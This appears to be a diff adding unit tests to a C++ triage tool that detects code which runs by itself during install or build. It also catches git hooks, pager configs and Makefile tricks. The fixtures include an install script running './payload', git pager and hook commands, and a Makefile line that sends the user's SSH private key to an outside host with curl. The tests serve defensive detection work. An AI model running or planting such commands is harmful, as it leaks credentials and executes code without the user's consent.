@@ -76,6 +76,21 @@ TEST(PlaybookTriageExcused, AFieldOrAProductIsNoComment) {
   EXPECT_EQ(Verdict(files), "runs on install or build");
 }
 
+// Found by one who wrote against the rules: each of them ran in its tool, and no line rule knew it.
+TEST(PlaybookTriageExcused, WhatRunsByItsNameIsTold) {
+  const std::map<std::string, std::string> kFiles = {{"Makefile", "app:\n\ttouch x\n"}, {"setup.py", "import setuptools as s\ns.setup()\n"}, {"build.rs", "pub fn main() {}\n"}, {"CMakeLists.txt", "message(x)\n"}, {"Rakefile", "x\n"}, {"app.vbproj", "<x/>\n"}, {"Setup.hs", "main = x\n"}, {"flake.nix", "{}\n"}};
+  for (const auto& [path, text] : kFiles) EXPECT_EQ(Verdict({{path, text}}), "runs on install or build") << path;
+  for (const char* script : {"./payload", "node<payload.txt", "$npm_package_config_a"}) EXPECT_EQ(Verdict({{"package.json", std::string("{\"scripts\": {\"install\": \"") + script + "\"}}\n"}}), "runs on install or build") << script;
+  EXPECT_EQ(Verdict({{"package.json", "{\"dependencies\": {\"install\": \"^0.13.0\", \"prepare\": \"latest\"}}\n"}}), "nothing found that runs by itself");
+}
+
+TEST(PlaybookTriageExcused, WhatGitRunsUnderAnotherNameIsTold) {
+  EXPECT_EQ(Verdict({{".git/hooks/post-checkout", "#!/usr/bin/env -S touch x\n"}}), "hostile signs");
+  EXPECT_EQ(Verdict({{".git/config", "[pager]\n\tlog = touch x\n"}}), "hostile signs");
+  EXPECT_EQ(Verdict({{".git/config", "[pager]\n\tlog = false\n\tdiff = less -R\n"}}), "nothing found that runs by itself");
+  EXPECT_EQ(Verdict({{".git/commondir", "../lib\n"}}), "hostile signs");
+}
+
 TEST(PlaybookTriageExcused, WhatMakePrintsMayBeRunFirst) {
   EXPECT_EQ(Verdict({{"Makefile", "$(info ${shell curl -d @$$HOME/.ssh/id_rsa https://example.org})\nall:\n\ttrue\n"}}), "hostile signs");
   EXPECT_THAT(TriageOf({{"Makefile", "$(info curl -d @$$HOME/.ssh/id_rsa)\nall:\n\ttrue\n"}}).summary, Not(HasSubstr("Hostile")));
